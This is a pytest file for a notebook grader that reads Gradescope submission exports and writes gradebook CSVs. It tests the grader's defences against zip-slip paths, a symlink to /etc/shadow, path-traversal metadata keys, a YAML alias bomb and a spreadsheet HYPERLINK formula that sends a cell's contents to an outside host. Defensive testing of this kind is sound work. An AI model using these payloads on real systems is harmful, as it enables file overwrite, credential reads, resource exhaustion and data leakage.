"""Gradescope's "Export Submissions" as input: identities, odd folders, unsafe or damaged zips.

`export_folder` builds an export the way Gradescope lays it out (one `submission_<id>` folder per
submission, `submission_metadata.yml` with Ruby-style keys naming the submitters). The reading
tests need no kernel; `test_grades_an_export_into_a_gradebook_with_identities` grades one through
the real grader (two notebooks in kernels, the rest need none).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import stat
import zipfile
from pathlib import Path

import pytest

from mnist_grader import batch, gradescope_export, notebook
from mnist_grader.assign import NOTEBOOK_NAME
from tests import bank

CASES = {case.name: case for case in bank.ALL_CASES}

PDF = b"%PDF-1.5\n% not really a PDF, but it does not need to be\n"
# What Gradescope writes (one entry shown in its help and in tools reading the export):
# folder name -> :submitters (name, sid, email), :created_at, :score, :history.
METADATA = """\
submission_1001:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1001'
    :email: ada@example.edu
  :created_at: 2026-11-20 10:00:00.000000000 -08:00
  :score: 0.0
  :history: []
submission_1002:
  :submitters:
  - :name: Grace Hopper
    :sid: 1002
    :email: grace@example.edu
  :created_at: 2026-11-20 11:00:00.000000000 -08:00
  :score: 0.0
submission_1003:
  :submitters:
  - :name: Alan Turing
    :sid: '1003'
    :email: alan@example.edu
  - :name: Alonzo Church
    :sid: '1004'
    :email: alonzo@example.edu
submission_1005:
  :submitters:
  - :name: Edsger Dijkstra
    :sid: '1005'
    :email: edsger@example.edu
submission_1007:
  :submitters:
  - :name: Barbara Liskov
    :sid: '1007'
    :email: barbara@example.edu
submission_1008:
  :submitters:
  - :name: Donald Knuth
    :sid: '1008'
    :email: don@example.edu
"""


def export_zip_of(notebook: bytes) -> bytes:
    """What the notebook's export cell makes: the notebook and its PDF in one zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(NOTEBOOK_NAME, notebook)
        archive.writestr("mnist_first_steps.pdf", PDF)
    return buffer.getvalue()


def export_folder(root: Path, good: bytes, wrong: bytes) -> Path:
    """A realistic export: Ada uploaded her notebook and her PDF (two files, and a second copy
    of the notebook); Grace the export cell's zip; Alan and Alonzo (a group) a notebook cut
    short; Edsger only the PDF; submission_1006 is a folder the metadata does not name;
    Barbara is named but has no folder; Donald uploaded a notebook that is not UTF-8."""
    root.mkdir(parents=True)
    (root / gradescope_export.METADATA_NAME).write_text(METADATA)
    folders = {
        "submission_1001": {
            NOTEBOOK_NAME: good,
            "mnist_first_steps.pdf": PDF,
            "mnist_first_steps (copy).ipynb": wrong,
        },
        "submission_1002": {"mnist_first_steps.zip": export_zip_of(wrong)},
        "submission_1003": {NOTEBOOK_NAME: good[: len(good) // 2]},
        "submission_1005": {"mnist_first_steps.pdf": PDF},
        "submission_1006": {NOTEBOOK_NAME: good},
        "submission_1008": {NOTEBOOK_NAME: b"\xff\xfe" + good},
    }
    for folder, files in folders.items():
        (root / folder).mkdir()
        for name, data in files.items():
            (root / folder / name).write_bytes(data)
    return root


def zip_folder(folder: Path, target: Path, inside: str = "assignment_4242_export") -> Path:
    """The folder zipped as macOS's Finder would (it adds __MACOSX/ with "._" files)."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"__MACOSX/{inside}/submission_1001/._{NOTEBOOK_NAME}", b"\x00\x05")
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, f"{inside}/{path.relative_to(folder)}")
    return target


@pytest.fixture
def notebooks(bank_dir) -> tuple[bytes, bytes]:
    return (
        (bank_dir / "passes_all.ipynb").read_bytes(),
        (bank_dir / "fails_q4b_label_length_10.ipynb").read_bytes(),
    )


def by_name(entries):
    return {entry.name: entry for entry in entries}


def check_entries(entries) -> None:
    found = by_name(entries)
    assert list(found) == [f"submission_{n}" for n in range(1001, 1009) if n != 1004]
    ada = found["submission_1001"]
    assert [p.name for p in ada.submitters] == ["Ada Lovelace"]
    assert ada.submitters[0].email == "ada@example.edu" and ada.submitters[0].sid == "1001"
    assert ada.notebook.name == NOTEBOOK_NAME  # the assignment's name first, as on Gradescope
    assert "also holds" in ada.note and "(copy)" in ada.note
    grace = found["submission_1002"]
    assert grace.notebook.name == "mnist_first_steps.zip" and grace.submitters[0].sid == "1002"
    group = found["submission_1003"]
    assert [p.sid for p in group.submitters] == ["1003", "1004"]
    assert group.notebook is not None
    edsger = found["submission_1005"]
    assert edsger.notebook is None and edsger.status == gradescope_export.NO_NOTEBOOK
    assert "mnist_first_steps.pdf" in edsger.reason
    stray = found["submission_1006"]
    assert stray.submitters == [] and "not named" in stray.note and stray.notebook is not None
    barbara = found["submission_1007"]
    assert barbara.status == gradescope_export.MISSING_FOLDER and barbara.notebook is None
    assert barbara.submitters[0].name == "Barbara Liskov"


def test_reads_an_unpacked_export(tmp_path, notebooks):
    root = export_folder(tmp_path / "export", *notebooks)
    assert gradescope_export.is_export(root)
    entries, notes = gradescope_export.open_export(root, tmp_path / "work")
    check_entries(entries)
    assert notes == []


def test_reads_the_export_zip_the_same_way(tmp_path, notebooks):
    archive = zip_folder(export_folder(tmp_path / "export", *notebooks), tmp_path / "e.zip")
    assert gradescope_export.is_export(archive)
    entries, notes = gradescope_export.open_export(archive, tmp_path / "work")
    check_entries(entries)
    assert notes == []
    # the PDF is listed by name but not unpacked: grading never needs it
    pdf = tmp_path / "work/export/assignment_4242_export/submission_1005/mnist_first_steps.pdf"
    assert pdf.exists() and pdf.stat().st_size == 0


def test_a_plain_folder_and_a_students_zip_are_not_exports(tmp_path, notebooks):
    (tmp_path / "plain").mkdir()
    (tmp_path / "plain" / "a.ipynb").write_bytes(notebooks[0])
    assert not gradescope_export.is_export(tmp_path / "plain")
    student_zip = tmp_path / "mnist_first_steps.zip"
    student_zip.write_bytes(export_zip_of(notebooks[0]))
    assert not gradescope_export.is_export(student_zip)


def test_no_metadata_grades_the_folders_without_identities(tmp_path, notebooks):
    root = export_folder(tmp_path / "export", *notebooks)
    (root / gradescope_export.METADATA_NAME).unlink()
    assert gradescope_export.is_export(root)  # the submission_<id> folders say so
    entries, notes = gradescope_export.open_export(root, tmp_path / "work")
    assert [e.name for e in entries] == [
        f"submission_{n}" for n in (1001, 1002, 1003, 1005, 1006, 1008)
    ]
    assert all(e.submitters == [] for e in entries)
    assert notes == [f"no {gradescope_export.METADATA_NAME}: submissions graded without names, "
                     "emails or SIDs"]  # fmt: skip


def test_unreadable_metadata_is_said_and_the_folders_still_graded(tmp_path, notebooks):
    root = export_folder(tmp_path / "export", *notebooks)
    (root / gradescope_export.METADATA_NAME).write_text("submission_1001:\n  - [unclosed\n")
    entries, notes = gradescope_export.open_export(root, tmp_path / "work")
    assert len(entries) == 6 and "could not be read" in notes[0]


def test_a_damaged_export_zip_stops_with_a_clear_message(tmp_path, notebooks):
    archive = zip_folder(export_folder(tmp_path / "export", *notebooks), tmp_path / "e.zip")
    data = archive.read_bytes()
    archive.write_bytes(data[: len(data) // 3])  # a download cut short: no central directory
    assert not gradescope_export.is_export(archive)  # so it is graded as one (unreadable) file
    with pytest.raises(gradescope_export.BadExport, match="not a readable zip"):
        gradescope_export.open_export(archive, tmp_path / "work")


def test_unsafe_and_damaged_members_are_not_unpacked(tmp_path, notebooks):
    archive = tmp_path / "hostile.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr(gradescope_export.METADATA_NAME, METADATA)
        out.writestr("../escaped.ipynb", notebooks[0])
        out.writestr("/absolute.ipynb", notebooks[0])
        link = zipfile.ZipInfo("submission_1001/" + NOTEBOOK_NAME)
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        out.writestr(link, "/etc/shadow")
        out.writestr("submission_1002/" + NOTEBOOK_NAME, notebooks[0])
        out.writestr("submission_1003/" + NOTEBOOK_NAME, notebooks[1])
    # damage the compressed bytes of submission_1002's notebook: its CRC no longer matches
    data = bytearray(archive.read_bytes())
    with zipfile.ZipFile(archive) as read:
        member = read.getinfo("submission_1002/" + NOTEBOOK_NAME)
    start = member.header_offset + 30 + len(member.filename.encode()) + len(member.extra)
    for offset in range(start + 10, start + 60):
        data[offset] ^= 0xFF
    archive.write_bytes(bytes(data))

    work = tmp_path / "work"
    entries, notes = gradescope_export.open_export(archive, work)
    assert not (tmp_path / "escaped.ipynb").exists() and not Path("/absolute.ipynb").exists()
    assert any("outside the export" in note for note in notes)
    assert any("symbolic link" in note for note in notes)
    assert any("damaged" in note for note in notes)
    assert not any(p.is_symlink() for p in work.rglob("*"))
    found = by_name(entries)
    assert found["submission_1001"].status == "unreadable"
    assert "symbolic link" in found["submission_1001"].reason
    assert found["submission_1002"].status == "unreadable"
    assert "damaged" in found["submission_1002"].reason
    assert found["submission_1003"].notebook.read_bytes() == notebooks[1]


def test_a_member_over_the_limit_is_refused_by_its_size_unwritten(tmp_path, monkeypatch):
    """A notebook the zip says is over the limit is never unpacked (a 2 GB sparse one was
    written to disk first): its row says how large it is."""
    monkeypatch.setattr(gradescope_export, "MAX_NOTEBOOK_BYTES", 1000)
    archive = tmp_path / "big.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("submission_1/" + NOTEBOOK_NAME, b"{" + b" " * 10**7 + b"}")
        out.writestr("submission_2/" + NOTEBOOK_NAME, b"{}")
    entries, notes = gradescope_export.open_export(archive, tmp_path / "work")
    big, small = entries
    assert big.notebook is None and big.status == "unreadable"
    assert big.reason == f"{NOTEBOOK_NAME} is 10 MB; notebooks up to 20 MB are accepted " + (
        "(clear the outputs and save again)"
    )
    assert not (tmp_path / "work" / "export" / "submission_1" / NOTEBOOK_NAME).exists()
    assert small.notebook.read_bytes() == b"{}"
    assert f"submission_1/{NOTEBOOK_NAME}: 10 MB, over the limit, not unpacked" in notes


def test_a_file_over_the_limit_is_never_copied_to_be_refused(tmp_path, settings, monkeypatch):
    """In an unpacked export (or any folder) a sparse notebook over the limit takes no disk, and
    was copied (written out in full) to be graded and refused: now it is refused unread."""
    root = tmp_path / "export"
    (root / "submission_1001").mkdir(parents=True)
    (root / gradescope_export.METADATA_NAME).write_text(METADATA)
    sparse = root / "submission_1001" / NOTEBOOK_NAME
    with sparse.open("wb") as handle:
        handle.truncate(gradescope_export.MAX_NOTEBOOK_BYTES + 2**20)
    copied = []
    real_copy = shutil.copy2

    def copy_and_record(source, target, **options):  # the real copy, recorded
        copied.append(Path(source).lstat().st_size)
        return real_copy(source, target, **options)

    monkeypatch.setattr(batch.shutil, "copy2", copy_and_record)
    (row,) = [
        row
        for row in batch.grade_batch(root, tmp_path / "out", settings, progress=False)
        if row["file"].startswith("submission_1001/")
    ]
    assert (row["name"], row["status"], row["total"]) == ("Ada Lovelace", "unreadable", 0)
    assert all(size <= gradescope_export.MAX_NOTEBOOK_BYTES for size in copied), copied
    told = json.loads((tmp_path / "out" / "submission_1001" / "results.json").read_text())
    assert "the file is 21 MB; notebooks up to 20 MB are accepted" in told["output"]


def test_metadata_keys_that_are_paths_write_only_their_own_row(tmp_path, settings):
    """Keys `../x`, an absolute path and `submission_2/../submission_1` wrote results.json
    outside OUT and over a classmate's: each is now a row of its own, `missing folder`, with
    its submitter, and the classmate's row is the classmate's."""
    outside = tmp_path / "outside"
    keys = ["../x", str(outside), "submission_2/../submission_1"]
    metadata = "\n".join(
        f"{json.dumps(key)}:\n  :submitters:\n  - :name: Mallory {n}\n    :sid: '66{n}'"
        for n, key in enumerate(["submission_1", "submission_2", *keys])
    )
    root = tmp_path / "export"
    root.mkdir()
    (root / gradescope_export.METADATA_NAME).write_text(metadata)
    for folder in ("submission_1", "submission_2"):
        (root / folder).mkdir()
        (root / folder / NOTEBOOK_NAME).write_bytes(b"{")  # read by a child: not a notebook
    out = tmp_path / "grades"
    rows = batch.grade_batch(root, out, settings, progress=False, warm=False)

    assert not (tmp_path / "x").exists() and not outside.exists()
    by_name = {row["name"]: row for row in rows}
    assert len(rows) == 5 and len(by_name) == 5
    assert by_name["Mallory 0"]["status"] == "unreadable"  # submission_1's own
    assert by_name["Mallory 0"]["file"] == f"submission_1/{NOTEBOOK_NAME}"
    for n, key in enumerate(keys, start=2):
        row = by_name[f"Mallory {n}"]
        assert (row["file"], row["status"], row["sid"]) == (key, "missing folder", f"66{n}")
        assert "which is a path, not a folder of the export" in row["note"]
    first = json.loads((out / "submission_1" / "results.json").read_text())
    assert first["extra_data"]["status"] == "unreadable"
    assert {p.name for p in out.iterdir() if p.is_dir()} == {
        "submission_1",
        "submission_2",
        "\\x2e.\\x2fx",
        "\\x2f" + str(outside)[1:].replace("/", "\\x2f"),
        "submission_2\\x2f..\\x2fsubmission_1",
    }


def test_metadata_with_aliases_is_refused_and_the_folders_graded(tmp_path, notebooks):
    """An alias bomb in `:name` (each level ten times the one before) took gigabytes to read
    a name from: anchors and aliases are refused, and the export is read without identities."""
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 6)]
    bomb = "\n".join(levels) + "\nsubmission_1001:\n  :submitters:\n  - :name: *a5\n"
    root = export_folder(tmp_path / "export", *notebooks)
    (root / gradescope_export.METADATA_NAME).write_text(bomb)
    entries, notes = gradescope_export.open_export(root, tmp_path / "work")
    assert len(entries) == 6 and all(entry.submitters == [] for entry in entries)
    assert notes == [
        f"{gradescope_export.METADATA_NAME} could not be read (it uses YAML anchors or "
        "aliases): identities left blank"
    ]


def _flagged_utf8_with_a_bad_name(target: Path, members: dict[str, bytes]) -> Path:
    """A zip whose member names are flagged UTF-8, and one (with é in it) is not: é's two
    bytes replaced by two that are not UTF-8, in the local and the central header."""
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    target.write_bytes(target.read_bytes().replace("é".encode(), b"\xff\xfe"))
    return target


def test_a_zip_with_names_that_are_not_utf8_is_not_a_readable_export(tmp_path, notebooks):
    """zipfile raised UnicodeDecodeError (a traceback): an export whose names cannot be read
    stops with a message, and a student's zip like it is unreadable, with the reason."""
    archive = _flagged_utf8_with_a_bad_name(
        tmp_path / "export.zip",
        {
            gradescope_export.METADATA_NAME: METADATA.encode(),
            f"submission_1001/{NOTEBOOK_NAME}": notebooks[0],
            "submission_1002/café.ipynb": notebooks[1],
        },
    )
    assert gradescope_export.is_export(archive)
    with pytest.raises(gradescope_export.BadExport, match="export.zip is not a readable export"):
        gradescope_export.open_export(archive, tmp_path / "work")

    upload = _flagged_utf8_with_a_bad_name(tmp_path / "upload.zip", {"café.ipynb": notebooks[0]})
    with pytest.raises(notebook.UnreadableSubmission, match="a file name in it is not UTF-8"):
        notebook.read_code_cells(upload)


def test_grades_an_export_into_a_gradebook_with_identities(tmp_path, notebooks, settings):
    archive = zip_folder(export_folder(tmp_path / "export", *notebooks), tmp_path / "export.zip")
    shutil.rmtree(tmp_path / "export")
    out = tmp_path / "grades"
    batch.grade_batch(archive, out, settings, jobs=2, progress=False)

    with (out / "gradebook.csv").open() as handle:
        rows = {row["file"].split("/")[0]: row for row in csv.DictReader(handle)}
    assert list(next(iter(rows.values()))) == [
        "file", "name", "email", "sid", "total", *bank.FULL_MARKS, "status", "note",
    ]  # fmt: skip
    full = sum(bank.FULL_MARKS.values())
    label_length_10 = sum(bank.expected_scores(CASES["fails_q4b_label_length_10"]).values())
    expected = {  # folder: (name, sid, total, status)
        "submission_1001": ("Ada Lovelace", "1001", full, "graded"),
        "submission_1002": ("Grace Hopper", "1002", label_length_10, "graded"),
        "submission_1003": ("Alan Turing; Alonzo Church", "1003; 1004", 0, "unreadable"),
        "submission_1005": ("Edsger Dijkstra", "1005", 0, "no notebook"),
        "submission_1006": ("", "", full, "graded"),
        "submission_1007": ("Barbara Liskov", "1007", 0, "missing folder"),
        "submission_1008": ("Donald Knuth", "1008", 0, "unreadable"),
    }
    got = {
        folder: (row["name"], row["sid"], float(row["total"]), row["status"])
        for folder, row in rows.items()
    }
    assert got == expected
    assert rows["submission_1001"]["file"] == f"submission_1001/{NOTEBOOK_NAME}"
    assert rows["submission_1002"]["file"] == "submission_1002/mnist_first_steps.zip"
    assert "not named" in rows["submission_1006"]["note"]
    assert "no folder" in rows["submission_1007"]["note"]
    edsger = json.loads((out / "submission_1005" / "results.json").read_text())
    assert "No notebook in this submission (it holds: mnist_first_steps.pdf)" in edsger["output"]
    donald = json.loads((out / "submission_1008" / "results.json").read_text())
    assert "not UTF-8" in donald["output"]

    with (out / "gradescope_scores.csv").open() as handle:
        scores = list(csv.DictReader(handle))
    assert list(scores[0]) == ["Name", "SID", "Email", "Total Score", "Max Points", "Status"]
    by_sid = {row["SID"]: row for row in scores}
    assert set(by_sid) == {"1001", "1002", "1003", "1004", "1005", "1007", "1008"}
    assert by_sid["1004"]["Name"] == "Alonzo Church" and by_sid["1004"]["Total Score"] == "0"
    assert float(by_sid["1002"]["Total Score"]) == label_length_10
    assert float(by_sid["1002"]["Max Points"]) == full
    assert by_sid["1001"]["Email"] == "ada@example.edu"
    with (out / "canvas_scores.csv").open() as handle:
        canvas = list(csv.DictReader(handle))
    assert list(canvas[0])[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert {row["SIS User ID"] for row in canvas} == set(by_sid)

    report = json.loads((out / "report.json").read_text())
    assert report["submissions"] == 7 and report["graded"] == 3
    statuses = {s: [m["who"] for m in members] for s, members in report["statuses"].items()}
    assert statuses["no notebook"] == ["Edsger Dijkstra"]
    assert statuses["missing folder"] == ["Barbara Liskov"]
    q4b = next(q for q in report["questions"] if q["name"] == "q4b")
    wrong = [g for check in q4b["checks"] for g in check["wrong_results"]]
    groups = [(g["got"], [m["who"] for m in g["submissions"]]) for g in wrong]
    assert ("(10,)", ["Grace Hopper"]) in groups  # the public check; the hidden one too
    assert all(who == ["Grace Hopper"] for _, who in groups), groups


def test_a_students_upload_is_never_taken_for_an_export(tmp_path, settings):
    """On Gradescope one upload is graded as one submission, whatever its zip holds."""
    crafted = tmp_path / "mnist_first_steps.zip"
    with zipfile.ZipFile(crafted, "w") as archive:
        archive.writestr(gradescope_export.METADATA_NAME, METADATA)
        archive.writestr("submission_1001/notes.txt", "no notebook here")
    assert gradescope_export.is_export(crafted)
    out = tmp_path / "out"
    rows = batch.grade_batch(crafted, out, settings, progress=False, exports=False)
    assert [(row["file"], row["status"]) for row in rows] == [(crafted.name, "unreadable")]
    assert "exactly one notebook" in (out / "mnist_first_steps" / "results.json").read_text()


def test_a_member_that_cannot_be_written_is_said_and_the_rest_unpacked(tmp_path, notebooks):
    archive = tmp_path / "clash.zip"
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("submission_1/" + NOTEBOOK_NAME, notebooks[0])
        out.writestr(f"submission_1/{NOTEBOOK_NAME}/inside.ipynb", notebooks[1])
        out.writestr("submission_2/" + NOTEBOOK_NAME, notebooks[1])
    entries, notes = gradescope_export.open_export(archive, tmp_path / "work")
    assert len(notes) == 2 and "could not be unpacked (File exists)" in notes[0]
    assert [e.notebook.read_bytes() for e in entries] == list(notebooks)


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
    """A name or file name is the student's own text: one starting like a formula (=, +, -, @)
    reaches every CSV with a leading apostrophe, so a spreadsheet shows it and does not run it;
    scores and ordinary text are written as they are."""
    from mnist_grader import results

    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
    graded = {
        "tests": [{"name": "q4a", "score": 2, "max_score": 2}],
        "score": 2,
        "extra_data": {
            "submission": "+cmd.ipynb",
            "status": "graded",
            "note": "@SUM(1,1)",
            "submitters": [{"name": formula, "sid": "-1", "email": "ada@example.edu"}],
        },
    }
    row = results.gradebook_row(graded, ["q4a"], identity_columns=True)
    results.write_gradebook([row], ["q4a"], tmp_path / "gradebook.csv", identity_columns=True)
    results.write_score_uploads([graded], tmp_path)

    with (tmp_path / "gradebook.csv").open() as handle:
        (book,) = csv.DictReader(handle)
    assert (book["file"], book["name"], book["sid"], book["note"]) == (
        "'+cmd.ipynb",
        "'" + formula,
        "'-1",
        "'@SUM(1,1)",
    )
    assert (book["email"], book["total"], book["q4a"], book["status"]) == (
        "ada@example.edu",
        "2",
        "2",
        "graded",
    )
    with (tmp_path / "gradescope_scores.csv").open() as handle:
        (scores,) = csv.DictReader(handle)
    assert (scores["Name"], scores["SID"], scores["Email"], scores["Total Score"]) == (
        "'" + formula,
        "'-1",
        "ada@example.edu",
        "2",
    )
    with (tmp_path / "canvas_scores.csv").open() as handle:
        (canvas,) = csv.DictReader(handle)
    assert (canvas["Student"], canvas["SIS User ID"]) == ("'" + formula, "'-1")
